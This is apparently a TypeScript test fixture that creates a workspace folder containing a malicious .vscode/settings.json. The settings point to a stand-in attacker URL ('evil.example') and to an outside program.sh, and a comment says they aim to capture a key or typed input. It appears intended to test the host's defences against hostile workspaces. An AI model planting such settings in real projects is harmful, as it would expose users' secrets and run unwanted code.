// Owns the folder in which the host's tests run: its settings are those of somebody who wants the key, or what is typed, for himself.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { hostileSettings } from '../support/hostileRepository.ts';

const EVIL = 'https://evil.example/acme';

/** Returns the folder. */
export function makeHostile(folder: string): string {
  mkdirSync(join(folder, '.vscode'), { recursive: true });
  writeFileSync(join(folder, '.vscode', 'settings.json'), JSON.stringify(hostileSettings(EVIL, join(folder, '..', 'program.sh'))));
  return folder;
}
